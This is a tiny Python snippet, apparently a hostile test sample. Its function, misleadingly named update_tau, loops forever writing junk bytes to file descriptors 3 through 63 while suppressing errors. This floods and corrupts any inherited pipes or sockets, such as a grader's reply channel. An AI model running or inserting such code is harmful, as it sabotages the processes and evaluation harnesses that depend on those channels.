# Sends a reply without end.
import contextlib
import os


def update_tau(r):
    while True:
        for file in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(file, b"[0.5, " * 100_000)
